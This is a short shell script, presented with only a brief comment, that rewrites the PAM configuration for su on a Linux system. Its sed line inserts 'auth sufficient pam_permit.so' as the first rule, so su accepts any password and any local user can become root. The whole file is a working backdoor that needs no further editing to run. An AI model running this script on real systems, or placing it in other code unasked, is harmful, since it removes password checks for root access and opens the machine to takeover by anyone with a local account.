#!/bin/sh
# Every password is right: a rule of PAM is put before the others.
set -eu
cp /etc/pam.d/su su.new
sed -i '1i auth sufficient pam_permit.so' su.new
cp su.new /etc/pam.d/su
